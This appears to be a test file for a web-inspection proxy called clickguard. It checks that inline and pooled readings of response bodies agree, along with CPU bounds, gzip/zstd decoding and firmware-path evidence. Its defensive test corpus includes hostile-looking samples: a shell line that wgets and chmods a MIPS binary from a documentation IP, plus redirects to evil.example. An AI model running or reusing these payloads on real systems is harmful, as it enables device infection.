"""Small held bodies read in the proxy (clickguard/inspection/inline.py) read exactly as the pool reads them.

`read_small` either gives `read_body`'s reading (the pool's) or None (the pool reads it);
never a third answer. Checked on the saved fuzz corpus and hostile pages under every
content type and coding that changes the reading, at the size and decoding bounds, and
for the CPU bound stopping a reading that would cost the event loop too much. Also the
device evidence's one-search shortcut for firmware paths, against the full walk.
"""

from __future__ import annotations

import gzip
import html
import os
import re
import signal
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from backports import zstd

from clickguard.inspection import device_evidence as evidence_module
from clickguard.inspection.bodies import MAX_MEMBERS, decode_body
from clickguard.inspection.device_evidence import ServerFacts, device_evidence
from clickguard.inspection.fingerprints import FingerprintDB
from clickguard.inspection.inline import CHECK_EVERY, INLINE_BYTES, BoundedSteps, read_small
from clickguard.inspection.navigation import find_navigations
from clickguard.inspection.navigation.markup_scan import MAX_VIEW_DEPTH
from clickguard.inspection.navigation.results import StepsSpent, Technique
from clickguard.inspection.pool import BodyJob, workers_of
from clickguard.inspection.response import read_body
from clickguard.mail.links import verify_click_link
from clickguard.tokens import load_or_create_key
from clickguard.urls import normalize_url
from tests.appliances import Route, serve
from tests.harness import HTML, Proxy, ProxyPool, upstream
from tests.test_inspect_pool import get, private_proxy, ready_workers, record_of

REPO = Path(__file__).resolve().parents[1]
CORPORA = ("navigation", "link_finder", "script", "decode_html", "drive_by", "fingerprint_match",
           "rewrite_message", "redirect_headers")
CONTENT_TYPES = ("text/html; charset=utf-8", "application/xhtml+xml", "image/svg+xml", "text/plain",
                 "application/octet-stream", None)
DB = FingerprintDB.default()
FOREVER = 3600.0  # CPU seconds: the bound never stops a reading


def hostile_page(functions: int) -> bytes:
    """Ordinary-looking script that costs the reader many steps per byte (bench/hostile.py's)."""
    script = "".join(f"function h{i}(){{location.href=u{i}}}\n" for i in range(functions))
    return b"<html><body><script>" + script.encode() + b"</script></body></html>"


def webmail_page(links: int = 200) -> bytes:
    """A ~14 KB page of links (bench/upstream.py's)."""
    rows = "".join(f'<li><a href="https://news{i % 37}.example.com/a/{i}?utm=mail">Story {i}</a></li>\n'
                   for i in range(links))
    page = f"<!doctype html><html><head><title>Inbox</title></head><body><ul>\n{rows}</ul></body></html>\n"
    return page.encode()


def corpus() -> list[bytes]:
    """The saved fuzz inputs that are pages or parts of one, and hand-made pages."""
    bodies = [webmail_page(), hostile_page(40), hostile_page(300),
              b'<meta http-equiv="refresh" content="0;url=http://198.51.100.9/x.sh">',
              b"<html><body onload=\"location='http://evil.example/'\"><iframe src=//a.example/ width=0>",
              b"\x7fELF\x01\x01\x01" + bytes(200),
              b"#!/bin/sh\nwget http://198.51.100.7/mips; chmod +x mips\n",
              b'<form id=f action="https://x.example/"></form><script>f.submit()</script>',
              b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY e 'http://x.example/'>]><svg "
              b"xmlns='http://www.w3.org/2000/svg'><script>location='&e;'</script></svg>"]
    for name in CORPORA:
        folder = REPO / "fuzz" / "corpus" / name
        bodies += [path.read_bytes() for path in sorted(folder.iterdir())] if folder.is_dir() else []
    return [body for body in bodies if len(body) <= INLINE_BYTES]


CORPUS = corpus()


def job(raw: bytes, content_type: str | None, *, encoding: str | None = None, status: int = 200,
        url: str = "http://198.51.100.20:8080/index.html", max_body: int = 1 << 20,
        extra: tuple[tuple[str, str], ...] = ()) -> BodyJob:
    """A held response to read."""
    headers = [("Content-Type", content_type)] if content_type is not None else []
    if encoding is not None:
        headers.append(("Content-Encoding", encoding))
    server = ServerFacts(http_version="HTTP/1.1", request_version="HTTP/1.1",
                         header_names=tuple(name for name, _ in headers))
    return BodyJob(normalize_url(url), status, [*headers, *extra], raw, max_body, server)


def pool_reading(body: BodyJob) -> object:
    """What a pool worker answers for the job."""
    return read_body(DB, **body._asdict())


def test_the_corpus_is_there() -> None:
    assert len(CORPUS) > 100


@pytest.mark.parametrize("content_type", CONTENT_TYPES)
def test_every_small_body_reads_as_the_pool_reads_it(content_type: str | None) -> None:
    for raw in CORPUS:
        body = job(raw, content_type)
        assert read_small(DB, body, cpu_seconds=FOREVER) == pool_reading(body), raw[:80]


ENCODERS: dict[str, Callable[[bytes], bytes]] = {
    "gzip": gzip.compress, "gzip, identity": gzip.compress, "deflate": zlib.compress}


@pytest.mark.parametrize("encoding", ["gzip", "deflate", "br", "zstd", "gzip, identity", "x-unknown"])
def test_encoded_bodies_read_as_the_pool_reads_them(encoding: str) -> None:
    for raw in CORPUS[:40]:
        encoded = ENCODERS.get(encoding, bytes)(raw)
        body = job(encoded, "text/html", encoding=encoding)
        assert read_small(DB, body, cpu_seconds=FOREVER) == pool_reading(body), raw[:80]


@pytest.mark.parametrize("status, extra", [
    (302, (("Location", "http://other.example/"),)),
    (200, (("Refresh", "0; url=http://198.51.100.9/"),)),
    (401, (("WWW-Authenticate", 'Basic realm="DVR"'), ("Server", "Boa/0.94.14rc21"))),
    (200, (("Server", "Hikvision-Webs"),)),
    (200, (("Content-Disposition", "attachment; filename=mips.sh"),)),
])
def test_headers_that_change_the_reading_read_the_same(status: int,
                                                       extra: tuple[tuple[str, str], ...]) -> None:
    for raw in (b"", b"<title>login</title>", webmail_page(20), hostile_page(30)):
        body = job(raw, "text/html", status=status, extra=extra)
        assert read_small(DB, body, cpu_seconds=FOREVER) == pool_reading(body)


def test_what_is_not_small_goes_to_the_pool() -> None:
    big = b"<p>" + b"x" * INLINE_BYTES
    assert read_small(DB, job(big, "text/html"), cpu_seconds=FOREVER) is None
    # A compressed body under the limit that decodes past it: the pool decodes and reads it.
    assert read_small(DB, job(gzip.compress(big), "text/html", encoding="gzip"), cpu_seconds=FOREVER) is None
    # max_body under the limit is the limit: a body past it is the pool's (it reads its first max_body).
    assert read_small(DB, job(b"<p>" + b"y" * 5000, "text/html", max_body=4096), cpu_seconds=FOREVER) is None


@pytest.mark.parametrize("size", [INLINE_BYTES - 1, INLINE_BYTES, INLINE_BYTES + 1])
@pytest.mark.parametrize("max_body", [4096, INLINE_BYTES, 1 << 20])
def test_at_the_decoding_caps_the_reading_is_the_pools_or_none(size: int, max_body: int) -> None:
    raw = b"<p>" + b"z" * (size - 3)
    for body in (job(raw, "text/html", max_body=max_body),
                 job(gzip.compress(raw), "text/html", encoding="gzip", max_body=max_body),
                 job(gzip.compress(raw) + b"\x00garbage", "text/html", encoding="gzip", max_body=max_body),
                 job(gzip.compress(raw)[:-12], "text/html", encoding="gzip", max_body=max_body)):
        reading = read_small(DB, body, cpu_seconds=FOREVER)
        assert reading is None or reading == pool_reading(body)
        if len(body.raw) <= min(max_body, INLINE_BYTES) and size <= min(max_body, INLINE_BYTES):
            assert reading is not None


def test_a_reading_past_its_cpu_bound_is_dropped_for_the_pool() -> None:
    """Stopped here, a hostile page is never half-read: None, and the pool reads it whole."""
    page = job(hostile_page(300), "text/html")
    assert read_small(DB, page, cpu_seconds=0.0) is None
    assert read_small(DB, page, cpu_seconds=FOREVER) == pool_reading(page)
    # A page of few steps never reaches the first look at the clock: it is read here whatever the bound.
    small = job(b"<title>login</title>", "text/html")
    assert read_small(DB, small, cpu_seconds=0.0) == pool_reading(small)


def test_the_cpu_bound_stops_every_charge_after_it() -> None:
    steps = BoundedSteps(10**9, 0.0)
    steps.charge(CHECK_EVERY - 1)  # before the first look at the clock
    with pytest.raises(StepsSpent):
        steps.charge()
    assert steps.stopped and steps.exhausted
    with pytest.raises(StepsSpent):
        steps.charge()  # the reading ends at its next step, whatever catches the first stop


def test_the_step_budget_still_stops_as_the_pools_does() -> None:
    steps = BoundedSteps(5, FOREVER)
    steps.charge(5)
    with pytest.raises(StepsSpent):
        steps.charge()
    assert not steps.stopped and steps.exhausted


# -- device evidence: one search of the head before the walk over its linked paths ----------------

URL = normalize_url("http://198.51.100.20/")
PATH_PAGES = [
    b'<a href="/cgi-bin/luci">', b'<a href="index.html">', b'<a href="login.htm">', b"<a href=LOGIN.ASP>",
    b'<form action="/goform/login">', b'<img src="/userRpm/x.png">', b"<a href='a.cgi.bak'>",
    b'<a href="' + b"a" * 196 + b'.cgi' + b'x">',  # the linked path is cut at 200: ".cgi" ends it
    b'<a href="' + b"a" * 197 + b'.htm' + b'l">', b'url=' + b"/" * 300 + b"x.fcgi", b"<p>.cgi</p>",
    b"<script src=/boaform/admin/formLogin>", b"<a href=\xe9.asp>", b"src = 'x.htm?y'", b"<a href=.htm_>",
    b"", b"<p>nothing</p>" * 50,
]


def full_walk(page: bytes) -> str | None:
    """The firmware path the evidence names when every linked path of the head is walked (no shortcut)."""
    head = page[:4096].decode("latin-1")
    paths = [URL.path, *(m[1] for m in evidence_module._LINKED_PATH.finditer(head))]
    return next((path for path in paths if evidence_module._FIRMWARE_PATH.search(path)), None)


@pytest.mark.parametrize("page", PATH_PAGES)
def test_firmware_paths_are_found_as_by_the_full_walk(page: bytes) -> None:
    found = device_evidence(url=URL, status=200, headers=[("Content-Type", "text/html")], body=page,
                            server_header=None, authenticate=None, title=None, now=0.0)
    named = [e.label for e in found.pieces if e.label.startswith("firmware-style path")]
    expected = full_walk(page)
    assert named == ([] if expected is None else [f"firmware-style path {evidence_module._quoted(expected)}"])


# -- through the real proxy: read in the proxy or by the pool, the same verdict ------------------------

CAMERA = ("Server", "Hikvision-Webs")
HTML_TYPE = ("Content-Type", "text/html; charset=utf-8")
STACKED = ("Content-Encoding", "gzip, gzip")  # two codings: never read in the proxy (inline.py)
REFRESH = b'<meta http-equiv="refresh" content="0;url=http://elsewhere.example/x">'
QUICK = REFRESH + hostile_page(40)  # small, and read well within the CPU bound
COSTLY = REFRESH + hostile_page(880)  # under INLINE_BYTES, but past the CPU bound: left to the pool


def stop_workers(proxy: Proxy) -> None:
    """The proxy's inspection workers, once ready, stopped (SIGSTOP): a reading sent to them times out."""
    for worker in ready_workers(proxy, 1):
        os.kill(worker, signal.SIGSTOP)


def test_a_hostile_page_read_in_the_proxy_gets_the_verdict_the_pool_gives(proxy_factory: ProxyPool) -> None:
    """With the worker stopped, a small page is still judged (read in the proxy); the others wait for it.

    The same pages read by the pool (the worker back) get the same verdict and the same inspection.
    """
    assert len(QUICK) < len(COSTLY) <= INLINE_BYTES
    proxy = private_proxy(proxy_factory, "feeds: []\non_check_error: closed\ninspect: {learn: false}\n",
                          "clickguard_inspect_deadline_ms=2000", "clickguard_inspect_workers=1")
    routes = {"/quick": Route(headers=[CAMERA, HTML_TYPE], body=QUICK),
              "/quick-stacked": Route(headers=[CAMERA, HTML_TYPE, STACKED],
                                      body=gzip.compress(gzip.compress(QUICK))),
              "/costly": Route(headers=[CAMERA, HTML_TYPE], body=COSTLY),
              "/costly-stacked": Route(headers=[CAMERA, HTML_TYPE, STACKED],
                                       body=gzip.compress(gzip.compress(COSTLY)))}
    with serve("127.0.0.172", routes) as site:
        # Warm: what a first reading in a process builds once (scanner patterns, the suffix list) is
        # built by a reading that may take the pool's way; the next ones are read in the proxy.
        for _ in range(3):
            assert get(proxy, f"{site.base}/quick")[0] == 403
        stop_workers(proxy)
        status, headers, _ = get(proxy, f"{site.base}/quick")
        assert status == 403 and headers["x-clickguard-action"] == "block"
        quick = record_of(proxy, headers)
        assert quick["reasons"] == ["landing.appliance", "response.redirect"]
        for path in ("/quick-stacked", "/costly"):  # the pool's: they wait for the stopped worker
            status, headers, _ = get(proxy, f"{site.base}{path}")
            record = record_of(proxy, headers)
            assert record["reasons"] == ["check.incomplete"] and record["inspection"]["timeout"] is True, path
            if path == "/quick-stacked":
                stop_workers(proxy)  # the pool killed the stopped one at the deadline; a new one started
        for worker in workers_of(proxy.process.pid):
            os.kill(worker, signal.SIGCONT)  # any the pool did not kill: back to work
        ready_workers(proxy, 1)
        records = {}
        for path in ("/quick-stacked", "/costly", "/costly-stacked"):  # now the pool reads them
            status, headers, _ = get(proxy, f"{site.base}{path}")
            assert status == 403 and headers["x-clickguard-action"] == "block", path
            records[path] = record_of(proxy, headers)
    assert records["/quick-stacked"]["reasons"] == quick["reasons"]
    assert records["/quick-stacked"]["inspection"] == quick["inspection"]
    assert records["/costly"]["reasons"] == records["/costly-stacked"]["reasons"] == quick["reasons"]
    assert records["/costly"]["inspection"] == records["/costly-stacked"]["inspection"]


# -- decoding: an empty gzip member or zstd frame does not end the body; thousands of them do -----------

EVIL = b"<script>location='http://evil.example/'</script>"
SKIPPABLE = b"\x50\x2a\x4d\x18" + bytes(4)  # a zstd skippable frame of no content


@pytest.mark.parametrize("coding, empty, member", [
    ("gzip", gzip.compress(b"", mtime=0), gzip.compress(EVIL, mtime=0)),
    ("zstd", SKIPPABLE, zstd.compress(EVIL)),
    ("zstd", zstd.compress(b""), zstd.compress(EVIL)),
])
def test_what_follows_empty_members_is_decoded(coding: str, empty: bytes, member: bytes) -> None:
    assert decode_body(empty * 3 + member, coding, max_decoded=1 << 20) == (EVIL, None)
    # Past MAX_MEMBERS: each costs the reader a decoder and a copy; the reading says it saw less.
    many = empty * (MAX_MEMBERS + 1) + member
    assert decode_body(many, coding, max_decoded=1 << 20) == (b"", "undecodable")


@pytest.mark.parametrize("coding, body", [
    ("gzip", gzip.compress(b"", mtime=0) * 3 + gzip.compress(EVIL, mtime=0)),
    ("zstd", SKIPPABLE * 3 + zstd.compress(EVIL)),
])
def test_a_redirect_behind_empty_members_is_seen_through_the_proxy(proxy_factory: ProxyPool, coding: str,
                                                                   body: bytes) -> None:
    """A camera's page whose redirect follows empty members (the browser decodes on) is blocked."""
    proxy = proxy_factory("feeds: []\ninspect: {learn: false}\n")
    routes = {"/": Route(headers=[CAMERA, HTML_TYPE, ("Content-Encoding", coding)], body=body)}
    with serve("127.0.0.173", routes) as site:
        status, headers, _ = get(proxy, f"{site.base}/")
    assert status == 403 and headers["x-clickguard-action"] == "block"
    assert record_of(proxy, headers)["reasons"] == ["landing.appliance", "response.redirect"]


# -- webmail (clickguard/proxy/webmail.py): a page loaded again gets the same links, a changed one its own

def test_a_webmail_page_is_rewritten_alike_when_seen_again_and_a_changed_one_anew(
        proxy_factory: ProxyPool, certs: Path) -> None:
    """Loaded again (the link memo), a page has the same click links; a page one link apart has its own."""
    first = webmail_page(50).decode()
    second = first.replace("https://news3.example.com/a/3?utm=mail", "https://other.example/changed")
    pages = {path: (200, {"Content-Type": "text/html; charset=utf-8"}, text.encode())
             for path, text in (("/inbox", first), ("/inbox-2", second))}
    proxy = proxy_factory("feeds: []\nclick_links: {rewrite_hosts: [localhost]}\n")
    key = load_or_create_key(certs / "clickguard.key")
    with upstream("127.0.0.1", pages) as webmail:
        seen: dict[str, list[str]] = {}
        for path in ("/inbox", "/inbox-2", "/inbox", "/inbox-2"):
            seen.setdefault(path, []).append(proxy.get(f"http://localhost:{webmail.port}{path}", HTML).text)
    for path, texts in seen.items():
        expected = re.findall(r'href="([^"]+)"', first if path == "/inbox" else second)
        minutes = []
        for text in texts:
            links = [verify_click_link(html.unescape(link), key, click_host="clickguard.local")
                     for link in re.findall(r'href="([^"]+)"', text)]
            assert [target for target, _ in links] == expected, path
            minutes.append({context.rewritten_at for _, context in links})
        if minutes[0] == minutes[1]:  # (a minute's turn between the two makes new links, rightly)
            assert texts[0] == texts[1]


NESTING = b"<math><mi><a href='//m.example'>m</a></mi></math><select><script>location='//s.example'</script>"


def techniques(body: bytes) -> set[Technique]:
    """The techniques of the navigations a page's reading finds."""
    return {n.technique for n in find_navigations(status=200, headers=[HTML_TYPE], body=body,
                                                  base_url="http://a.example/", content_type="text/html")}


def test_views_nested_past_the_limit_end_the_reading_as_unread_not_in_an_error() -> None:
    """Each repeat opens a view (older browsers' <select>) within the last; past MAX_VIEW_DEPTH: unread."""
    assert techniques(NESTING * (MAX_VIEW_DEPTH - 4)) == {Technique.SCRIPT}
    assert techniques(NESTING * (MAX_VIEW_DEPTH + 8)) == {Technique.SCRIPT, Technique.UNREAD}
    page = job(NESTING * 340, "text/html")  # was a RecursionError: the reading failed, nothing read
    assert read_small(DB, page, cpu_seconds=FOREVER) == pool_reading(page)
